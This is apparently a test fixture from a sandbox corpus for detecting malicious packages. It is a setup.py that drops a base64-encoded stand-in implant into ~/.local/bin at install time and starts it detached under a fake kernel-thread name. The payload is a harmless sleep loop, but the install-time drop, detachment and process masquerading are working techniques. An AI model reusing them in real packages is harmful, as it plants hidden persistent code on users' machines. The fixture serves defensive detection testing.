# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# An install-time implant drop, the shape of PyPI's secretslib (2022) and of
# the miners that npm and PyPI droppers leave behind, rewritten from the
# public write-ups:
#
# 1. decodes an embedded payload and writes it to ~/.local/bin/kworkerd,
#    chmod 755 (a directory on PATH, a kernel-thread-like name);
# 2. double-forks, detaches (setsid, stdio on /dev/null) and execs it with
#    argv[0] `[kworker/u8:2]`, so that `ps` shows a kernel thread;
# 3. returns at once: the implant outlives the install.
#
# The payload is a shell loop that does nothing and exits by itself after
# 30 s (a stand-in for a miner). The sandbox must kill it at the end of the
# phase (`killed_at_end`). The first time setup.py runs in an install (a
# file in /tmp says it already ran). pip hides setup.py's output, so the
# steps go to /tmp/mal-kworker-drop.log and the last one writes
# /tmp/mal-kworker-drop.done. No error stops the install.
import base64
import os

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-kworker-drop.ran"
IMPLANT = os.path.join(os.path.expanduser("~"), ".local", "bin", "kworkerd")
# `#!/bin/sh` + a loop of `sleep 1` that stops after 30 s.
PAYLOAD = base64.b64encode(
    b"#!/bin/sh\n# pkgtrace test implant: does nothing, exits after 30 s\n"
    b"i=0\nwhile [ $i -lt 30 ]; do sleep 1; i=$((i+1)); done\n"
)


def _say(msg):
    with open("/tmp/mal-kworker-drop.log", "a") as f:
        f.write(f"mal-kworker-drop: {msg}\n")


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _chain():
    os.makedirs(os.path.dirname(IMPLANT), exist_ok=True)
    with open(IMPLANT, "wb") as f:
        f.write(base64.b64decode(PAYLOAD))
    os.chmod(IMPLANT, 0o755)
    _say(f"step 1 wrote {IMPLANT} (755)")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(IMPLANT, ["[kworker/u8:2]"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    _say("step 2 started the implant detached as [kworker/u8:2]")
    _say("step 3 install goes on; the implant keeps running")
    with open("/tmp/mal-kworker-drop.done", "w") as f:
        f.write("done\n")


if _first_run():
    try:
        _chain()
    except BaseException as e:  # never stop the install
        _say(f"stopped: {e!r}")

setup(
    name="pkgtrace-test-mal-kworker-drop",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py drops ~/.local/bin/kworkerd and starts it detached as [kworker/u8:2]",
    packages=["pkgtrace_mal_kworker_drop"],
)
